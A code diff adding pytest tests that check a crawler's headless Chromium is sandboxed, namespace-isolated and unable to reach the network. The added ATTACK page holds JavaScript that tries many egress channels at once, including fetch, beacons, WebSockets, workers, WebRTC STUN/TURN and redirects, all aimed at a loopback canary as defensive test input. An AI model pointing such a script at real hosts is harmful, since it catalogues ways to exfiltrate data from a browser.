@@ -2,7 +2,8 @@
 
 The guard is a pure function over a table of URLs and DNS answers (a fake resolver); the
 fetcher is checked live against loopback servers (one parse, one resolution, the checked
-address connected to).
+address connected to); Chromium is checked live with a page whose scripts try every way
+out towards a canary on another loopback port, which must hear nothing.
 """
 
 from __future__ import annotations
@@ -11,6 +12,7 @@ import datetime
 import io
 import json
 import os
+import shutil
 import socket
 import ssl
 import threading
@@ -22,10 +24,10 @@ from shards.sample import Sample
 from sources.common.fetch import FetchError, Fetcher, FetchPolicy
 from sources.common.url_guard import UrlRefused, check_url, is_public
 from sources.records.captions import CaptionOptions, read_captions
-from sources.web.browser import find_chromium
+from sources.web.browser import Browser, RenderRefused, RenderSettings, find_chromium
 from sources.web.read import WebOptions, read_html_page, read_url_list
-from sources.web.resources import read_inside
-from tests.web_server import serve, serve_routes
+from sources.web.resources import LiveResources, read_inside
+from tests.web_server import ROUTES, canary, serve, serve_routes
 
 needs_chromium = pytest.mark.skipif(find_chromium() is None, reason="Chromium is not installed (.ci/run installs it)")
 PUBLIC = "93.184.215.14"  # stands for a public answer; the guard never connects, so nothing is sent there
@@ -310,3 +312,182 @@ def test_a_site_folder_with_links_out_renders_nothing_from_outside(tmp_path):
         assert [r.reason for r in linked] == ["filtered:outside_root"]
     finally:
         context.release()
+
+
+def test_chromium_is_launched_sandboxed_and_isolated_or_not_at_all(monkeypatch):
+    from sources.web import browser as module
+
+    assert "--webrtc-ip-handling-policy=disable_non_proxied_udp" in module.FLAGS
+    assert "--no-sandbox" not in module.FLAGS
+    monkeypatch.delenv("VLBUILD_CHROMIUM_ISOLATION", raising=False)
+    assert Browser("/bin/false").isolated  # unless VLBUILD_CHROMIUM_ISOLATION=off
+    which = shutil.which
+    monkeypatch.setattr(shutil, "which", lambda name, *a, **k: None if name == "unshare" else which(name, *a, **k))
+    module.isolation_command.cache_clear()
+    browser = Browser("/bin/false")
+    try:
+        with pytest.raises(RenderRefused) as refused:  # no namespace: no browser, and a reason that says why
+            browser.start()
+    finally:
+        browser.close()
+        module.isolation_command.cache_clear()
+    assert refused.value.reason == "error:render:no_isolation" and "VLBUILD_CHROMIUM_ISOLATION=off" in str(refused.value)
+    monkeypatch.setenv("VLBUILD_CHROMIUM_ISOLATION", "off")
+    assert not Browser("/bin/false").isolated
+
+
+# Every way a page's script can open a connection, each aimed at the canary; ``/hold.png`` is answered
+# late so the page is still loading while they run.
+ATTACK = """<!doctype html><html><head><meta charset="utf-8"><title>Attack</title>
+<link rel="prefetch" href="{c}/prefetch"><link rel="preconnect" href="{c}"><link rel="dns-prefetch" href="{c}">
+<link rel="preload" as="image" href="{c}/preload.png"><link rel="stylesheet" href="{c}/style.css">
+</head><body><h1>A page that tries every way out</h1><p id="log">tried:</p>
+<img src="{c}/img.png" alt="x"><iframe src="{c}/frame.html"></iframe><img src="/hold.png" alt="hold">
+<form id="f" method="post" action="{c}/form" target="sink"></form><iframe name="sink"></iframe>
+<script>
+const C = "{c}", W = "{ws}", log = m => document.getElementById("log").textContent += " " + m;
+const workerCode = `fetch("${{C}}/worker").catch(() => 0); try {{ new WebSocket("${{W}}/worker-ws"); }} catch (e) {{}}
+  try {{ const x = new XMLHttpRequest(); x.open("GET", "${{C}}/worker-xhr"); x.send(); }} catch (e) {{}}`;
+const blob = URL.createObjectURL(new Blob([workerCode], {{type: "text/javascript"}}));
+const ice = [{{urls: "stun:127.0.0.1:{port}"}},
+             {{urls: "turn:127.0.0.1:{port}?transport=udp", username: "u", credential: "p"}},
+             {{urls: "turn:127.0.0.1:{port}?transport=tcp", username: "u", credential: "p"}}];
+const tries = {{
+  fetch: () => fetch(C + "/fetch", {{mode: "no-cors"}}),
+  keepalive: () => fetch(C + "/keepalive", {{method: "POST", body: "x", keepalive: true, mode: "no-cors"}}),
+  xhr: () => {{ const x = new XMLHttpRequest(); x.open("GET", C + "/xhr"); x.send(); }},
+  websocket: () => new WebSocket(W + "/ws"),
+  eventsource: () => new EventSource(C + "/sse"),
+  beacon: () => navigator.sendBeacon(C + "/beacon", "x"),
+  worker: () => new Worker(blob),
+  sharedworker: () => new SharedWorker(blob),
+  serviceworker: () => navigator.serviceWorker.register("/sw.js"),
+  webtransport: () => new WebTransport("https://127.0.0.1:{port}/wt"),
+  redirect: () => fetch("/to-canary"),
+  form: () => document.getElementById("f").submit(),
+  popup: () => window.open(C + "/popup"),
+  image: () => {{ new Image().src = C + "/js-image.png"; }},
+  webrtc: async () => {{ for (const server of [ice, [ice[0]], [ice[1]], [ice[2]]]) {{
+    const pc = new RTCPeerConnection({{iceServers: server}}); pc.createDataChannel("x");
+    await pc.setLocalDescription(await pc.createOffer()); }} }},
+}};
+for (const [name, attempt] of Object.entries(tries)) {{
+  try {{ Promise.resolve(attempt()).then(() => log(name), e => log(name + ":" + e.name)); }}
+  catch (e) {{ log(name + ":" + e.name); }}
+}}
+</script></body></html>"""
+
+
+def _attack_routes(port: int) -> dict:
+    page = ATTACK.format(c=f"http://127.0.0.1:{port}", ws=f"ws://127.0.0.1:{port}", port=port).encode()
+    return {"/attack.html": (200, {"Content-Type": "text/html"}, page),
+            "/hold.png": (200, {"Content-Type": "image/png"}, ROUTES["/picture.png"][2]),
+            "/to-canary": (302, {"Location": f"http://127.0.0.1:{port}/redirected"}, b"")}
+
+
+@needs_chromium
+def test_the_canary_hears_an_unguarded_browser():
+    """The control: a bare Chromium (no flags, no router, no namespace) on the attack page reaches the canary,
+    so the canary's silence below means the guards held, not that the attacks were broken."""
+    from playwright.sync_api import sync_playwright
+
+    with canary() as listener, serve_routes(_attack_routes(listener.port), delays={"/hold.png": 1.5}) as (base, _):
+        with sync_playwright() as playwright:
+            chromium = playwright.chromium.launch(executable_path=find_chromium(), args=["--disable-gpu"])
+            try:
+                page = chromium.new_page()
+                page.goto(base + "/attack.html", wait_until="load", timeout=20_000)
+                page.wait_for_timeout(500)
+            finally:
+                chromium.close()
+    assert listener.udp, "WebRTC's STUN/TURN over UDP reached the canary"
+    assert any(b"GET /fetch" in packet for packet in listener.tcp), listener.tcp
+
+
+@needs_chromium
+@pytest.mark.parametrize("isolated", [True, False], ids=["namespace", "in_browser_guards_alone"])
+def test_page_scripts_reach_nothing_but_the_router(isolated):
+    with canary() as listener, serve_routes(_attack_routes(listener.port), delays={"/hold.png": 1.5}) as (base, log):
+        port = base.rsplit(":", 1)[1]
+        fetcher = Fetcher(FetchPolicy(allow_private=(f"127.0.0.1:{port}",), host_interval_s=0, retries=0,
+                                      timeout_s=5, obey_robots=False))
+        page = fetcher.page(base + "/attack.html")
+        resources = LiveResources(page, fetcher)
+        browser = Browser(find_chromium(), isolated=isolated)
+        try:
+            rendered = browser.render(page.url, resources, RenderSettings(timeout_s=15))
+        finally:
+            browser.close()
+        listener.stop.wait(0.5)  # what was sent has arrived by now
+        canary_url = f"http://127.0.0.1:{listener.port}"
+    assert "A page that tries every way out" in rendered.html  # the page rendered and its scripts ran
+    assert "webrtc" in rendered.html and "fetch:TypeError" in rendered.html
+    assert listener.heard == []
+    assert {path for path, _ in log} == {"/attack.html", "/hold.png", "/to-canary"}  # same origin, through us
+    # the router saw and refused the rest, workers' requests too; the redirect to the canary was refused
+    assert {url for url in resources.refused if f":{listener.port}/" not in url} == {base + "/to-canary"}
+    assert {f"{canary_url}/{path}" for path in ("fetch", "xhr", "beacon", "worker", "img.png")} <= set(resources.refused)
+
+
+@needs_chromium
+@pytest.mark.skipif(not hasattr(os, "geteuid"), reason="Linux only")
+def test_chromium_runs_sandboxed_unprivileged_and_without_a_network(monkeypatch):
+    monkeypatch.setenv("VLBUILD_TEST_SECRET", "do-not-pass-me-on")
+    browser = Browser(find_chromium())
+    try:
+        browser.start()
+        status = browser.thread.submit(_sandbox_status, browser).result()
+        pid = browser.pid
+        own_net, own_user = os.readlink("/proc/self/ns/net"), os.readlink("/proc/self/ns/user")
+        checked = 0
+        for process in [pid, *_descendants(pid)]:
+            try:
+                net, user = os.readlink(f"/proc/{process}/ns/net"), os.readlink(f"/proc/{process}/ns/user")
+                with open(f"/proc/{process}/status") as f:
+                    fields = dict(line.split(":\t", 1) for line in f.read().splitlines() if ":\t" in line)
+            except FileNotFoundError:  # a helper process that has exited since
+                continue
+            checked += 1
+            assert net != own_net  # not one of them shares our network
+            assert fields["NoNewPrivs"].strip() == "1"
+            if user == own_user:  # (the sandbox's own user namespaces give capabilities inside them only)
+                assert int(fields["CapEff"], 16) == 0
+            if os.geteuid() == 0:
+                assert fields["Uid"].split()[0] == "65534"  # nobody, not root
+        assert checked > 2  # the browser, its zygotes, renderers and utilities
+        with open(f"/proc/{pid}/environ", "rb") as f:
+            assert b"VLBUILD_TEST_SECRET" not in f.read()
+    finally:
+        browser.close()
+    assert "Seccomp-BPF sandbox\tYes" in status and "adequately sandboxed" in status
+    assert "Network namespaces\tYes" in status
+
+
+def _sandbox_status(browser: Browser) -> str:
+    context = browser._start().new_context()
+    try:
+        page = context.new_page()
+        page.goto("chrome://sandbox")
+        page.wait_for_selector("text=sandboxed", timeout=10_000)
+        return page.inner_text("body")
+    finally:
+        context.close()
+
+
+def _descendants(pid: int) -> list[int]:
+    children: dict[int, list[int]] = {}
+    for entry in os.listdir("/proc"):
+        if entry.isdigit():
+            try:
+                with open(f"/proc/{entry}/stat") as f:
+                    parent = int(f.read().rsplit(")", 1)[1].split()[1])
+            except (OSError, ValueError, IndexError):
+                continue
+            children.setdefault(parent, []).append(int(entry))
+    found, todo = [], [pid]
+    while todo:
+        for child in children.get(todo.pop(), []):
+            found.append(child)
+            todo.append(child)
+    return found
+
